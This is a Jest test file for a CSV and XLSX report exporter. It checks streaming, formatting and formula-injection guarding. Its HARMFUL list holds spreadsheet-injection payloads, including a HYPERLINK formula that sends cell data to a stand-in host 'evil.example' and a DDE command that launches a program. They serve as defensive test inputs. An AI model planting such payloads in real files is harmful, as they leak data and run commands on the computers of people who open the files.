import { describe, expect, test } from '@jest/globals';
import { cellsOf, readCsv, unzip } from '../../test/spreadsheets.js';
import { csvOf } from './csv.js';
import { count, day, instant, linesOf, money, summed, type Table, text } from './table.js';
import { xlsxOf } from './xlsx/xlsx.js';

interface Row {
  name: string | null;
  pieces: number;
  price: number | null;
  on: string;
  at: Date | null;
}

const row: Row = {
  name: 'Oil filter',
  pieces: 3,
  price: 250_050,
  on: '2026-02-01',
  at: new Date('2026-01-31T21:05:09Z'),
};

const COLUMNS = [
  text<Row>('Name', 30, ({ name }) => name),
  summed(count<Row>('Pieces', ({ pieces }) => pieces)),
  summed(money<Row>('Price', ({ price }) => price)),
  day<Row>('Day', ({ on }) => on),
  instant<Row>('Date', ({ at }) => at),
];

/** In small batches, some of them empty. */
async function* given<Given>(rows: Given[]): AsyncGenerator<Given[]> {
  for (let place = 0; place < rows.length; place += 2) {
    yield rows.slice(place, place + 2);
    yield [];
  }
}

const tableOf = (rows: Row[]): Table => ({
  title: 'Parts & more',
  widths: [30, 16, 18, 12, 20],
  lines: linesOf(COLUMNS, given(rows)),
});

async function csv(rows: Row[]): Promise<string> {
  let all = '';
  for await (const block of csvOf(tableOf(rows))) all += block;
  return all;
}

async function xlsx(rows: Row[], mostLines?: number): Promise<Map<string, string>> {
  const blocks: Uint8Array[] = [];
  for await (const block of xlsxOf(tableOf(rows), mostLines)) blocks.push(block);
  return unzip(Buffer.concat(blocks));
}

const sheet = async (rows: Row[]) => cellsOf((await xlsx(rows)).get('xl/worksheets/sheet1.xml') ?? '');

const HARMFUL = [
  '=1+1',
  '+254700000000-1',
  ' +254700000000',
  '+254700000000\n',
  '-3',
  '@x',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\0=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠x',
  '\tharmless',
  '=HYPERLINK("https://evil.example?"&A1,"Click")',
  `=cmd|' /C calc'!A0`,
];

const HARMLESS = [
  'Oil filter, 5W-30',
  '+254700000000',
  'a "quoted" word',
  'two\nlines',
  'two\r\nlines',
  'semi;colon',
  '🔧 Genuine',
  'فرامل أمامية',
  "O'Neill",
  '1=1',
  '<b>&amp;</b>',
  ']]>',
  '_x000D_',
  '_x',
  '  blanks  ',
  '',
];

test.each([
  ['CSV', csvOf],
  ['XLSX', (table: Table) => xlsxOf(table)],
])('streams rows as %s, and stops fetching rows when the client stops reading', async (_, write) => {
  let isStopped = false;
  async function* endless(): AsyncGenerator<Row[]> {
    try {
      for (;;) yield await Promise.resolve([row]);
    } finally {
      isStopped = true;
    }
  }
  const content = write({ ...tableOf([]), lines: linesOf(COLUMNS, endless()) });
  await content.next();
  await content.next();
  await content.return(undefined);
  expect(isStopped).toBe(true);
});

describe('a report as CSV', () => {
  test('is UTF-8 with BOM and CR LF, with quoted texts and bare numbers and dates', async () => {
    expect(await csv([row])).toBe(
      '\uFEFF"Name","Pieces","Price","Day","Date"\r\n' +
        '"Oil filter",3,2500.50,2026-02-01,2026-02-01 00:05:09\r\n' +
        '"Total",3,2500.50,,\r\n',
    );
  });

  test('has an empty cell for null, and only a head and a total if there are no rows', async () => {
    expect(readCsv(await csv([{ ...row, name: null, price: null, at: null }]))[1]).toEqual([
      '',
      '3',
      '',
      '2026-02-01',
      '',
    ]);
    expect(readCsv(await csv([]))).toEqual([
      ['Name', 'Pieces', 'Price', 'Day', 'Date'],
      ['Total', '0', '0.00', '', ''],
    ]);
  });

  test('guards formulas and keeps other texts unchanged', async () => {
    const names = [...HARMFUL, ...HARMLESS];
    const [, ...lines] = readCsv(await csv(names.map((name) => ({ ...row, name }))));
    expect(lines.slice(0, -1).map(([name]) => name)).toEqual([
      ...HARMFUL.map((name) => `'${name}`),
      ...HARMLESS,
    ]);
  });

  test('does not guard negative numbers', async () => {
    expect(readCsv(await csv([{ ...row, pieces: -3, price: -150 }]))[1]?.slice(1, 3)).toEqual([
      '-3',
      '-1.50',
    ]);
  });
});

describe('a report as a workbook', () => {
  test('has typed cells', async () => {
    const [head, cells, total] = await sheet([row]);
    expect(head?.map(({ type, value }) => `${type} ${value}`)).toEqual([
      'text Name',
      'text Pieces',
      'text Price',
      'text Day',
      'text Date',
    ]);
    expect(cells).toEqual([
      { type: 'text', value: 'Oil filter', style: 1 },
      { type: 'number', value: '3', style: 2 },
      { type: 'number', value: '2500.50', style: 3 },
      { type: 'number', value: '46054', style: 4 },
      { type: 'number', value: expect.stringMatching(/^46054\.00357/), style: 5 },
    ]);
    expect(total?.map(({ value, style }) => [value, style])).toEqual([
      ['Total', 6],
      ['3', 7],
      ['2500.50', 8],
      ['', 9],
      ['', 10],
    ]);
  });

  test('stores every text as a text cell', async () => {
    const names = [...HARMFUL, ...HARMLESS];
    const [, ...lines] = await sheet(names.map((name) => ({ ...row, name })));
    expect(lines.slice(0, -1).map(([cell]) => cell)).toEqual(
      names.map((name) => ({ type: 'text', value: name.replace(/\r\n?/g, '\n'), style: 1 })),
    );
  });

  test('has all required parts, well-formed and without formulas', async () => {
    const parts = await xlsx(HARMFUL.map((name) => ({ ...row, name })));
    expect([...parts.keys()]).toEqual([
      'xl/worksheets/sheet1.xml',
      'xl/styles.xml',
      'xl/workbook.xml',
      'xl/_rels/workbook.xml.rels',
      '_rels/.rels',
      '[Content_Types].xml',
    ]);
    expect(parts.get('xl/workbook.xml')).toContain(
      '<sheet name="Parts &amp; more" sheetId="1" r:id="rId1"/>',
    );
    for (const [name, xml] of parts) expect([name, unclosedIn(xml)]).toEqual([name, []]);
    expect(parts.get('xl/worksheets/sheet1.xml')).not.toMatch(/<f[ >]/);
  });

  test('continues a full sheet on another one with the same head; each sheet has a filter over its rows', async () => {
    const rows = Array.from({ length: 5 }, (_, place) => ({ ...row, pieces: place + 1 }));
    const parts = await xlsx(rows, 3);
    const sheets = [1, 2, 3].map((number) => cellsOf(parts.get(`xl/worksheets/sheet${number}.xml`) ?? ''));
    expect(sheets.map((cells) => cells.map(([, second]) => second?.value))).toEqual([
      ['Pieces', '1', '2'],
      ['Pieces', '3', '4'],
      ['Pieces', '5', '15'],
    ]);
    const filters = [1, 2, 3].map((number) =>
      /<\/sheetData><autoFilter ref="(.*?)"\/><\/worksheet>$/.exec(
        parts.get(`xl/worksheets/sheet${number}.xml`) ?? '',
      ),
    );
    expect(filters.map((found) => found?.[1])).toEqual(['A1:E3', 'A1:E3', 'A1:E2']);
    expect(parts.get('xl/workbook.xml')).toContain('name="Parts &amp; more 3" sheetId="3" r:id="rId3"');
    expect(parts.get('[Content_Types].xml')).toContain('/xl/worksheets/sheet3.xml');
    expect(parts.get('xl/_rels/workbook.xml.rels')).toContain('Id="rId4"');
  });
});

function unclosedIn(xml: string): string[] {
  const open: string[] = [];
  for (const [, end, name = '', alone] of xml.matchAll(/<(\/?)([\w:]+)(?:\s[^<>]*?)?(\/?)>/g)) {
    if (end && open.pop() !== name) return [`</${name}>`];
    if (!end && !alone) open.push(name);
  }
  return open;
}
